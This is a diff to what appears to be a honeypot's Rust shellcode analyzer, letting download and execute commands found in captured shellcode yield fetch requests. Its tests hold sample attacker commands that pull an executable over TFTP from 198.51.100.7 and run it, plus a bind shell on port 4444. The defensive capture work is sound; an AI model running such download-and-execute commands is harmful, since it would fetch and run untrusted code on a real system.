@@ -249,15 +249,17 @@ impl Analyzer {
         }
     }
 
-    /// What the analyses ask to fetch after they ran: the URL cspm found in shellcode and,
-    /// with `follow_connectback`, the connect-back (TCP to the host and port; the key sent
-    /// first; for a shell, what arrives by the deadline is kept). Fetched by the download
-    /// stage under its limits and address policy.
+    /// What the analyses ask to fetch after they ran: the downloads the URL or command cspm
+    /// found in shellcode names and, with `follow_connectback`, the connect-back (TCP to the
+    /// host and port; the key sent first; for a shell, what arrives by the deadline is
+    /// kept). Fetched by the download stage under its limits and address policy.
     pub fn follow_ups(&self, attack: &Attack) -> Vec<Request> {
         let Some(c) = &self.cspm else { return Vec::new() };
         let Some(s) = &attack.findings.shellcode else { return Vec::new() };
-        if let Some(url) = &s.url {
-            return super::fetch::requests_of(url.as_bytes(), &[]).requests;
+        // A URL, or a command (of `execute` or `download`): the downloads it names.
+        let named = s.url.as_ref().or(s.command.as_ref());
+        if let Some(text) = named {
+            return super::fetch::requests_of(text.as_bytes(), &[]).requests;
         }
         match (c.follow, s.host, s.port) {
             (true, Some(host), Some(port)) => {
@@ -453,6 +455,22 @@ mod tests {
             (r.len(), r[0].scheme, r[0].host.as_str(), r[0].path.as_str()),
             (1, Scheme::Http, "198.51.100.7", "/a.exe")
         );
+        let cmd = Shellcode {
+            kind: "download".into(),
+            command: Some("tftp -i 198.51.100.7 GET b.exe".into()),
+            ..Shellcode::default()
+        };
+        let r = analyzer(false).follow_ups(&attack(cmd));
+        assert_eq!((r.len(), r[0].scheme, r[0].path.as_str()), (1, Scheme::Tftp, "b.exe"));
+        // So is an execute signature's command (decoded shellcode may hide it from the
+        // extraction of the attack string).
+        let exec = Shellcode {
+            kind: "execute".into(),
+            command: Some("cmd /c echo x & tftp -i 198.51.100.7 GET c.exe & c.exe".into()),
+            ..Shellcode::default()
+        };
+        let r = analyzer(false).follow_ups(&attack(exec));
+        assert_eq!((r.len(), r[0].scheme, r[0].path.as_str()), (1, Scheme::Tftp, "c.exe"));
         // A bind shell is recorded, nothing is fetched.
         let bind = Shellcode { kind: "bindshell".into(), port: Some(4444), ..Shellcode::default() };
         assert!(analyzer(true).follow_ups(&attack(bind)).is_empty());
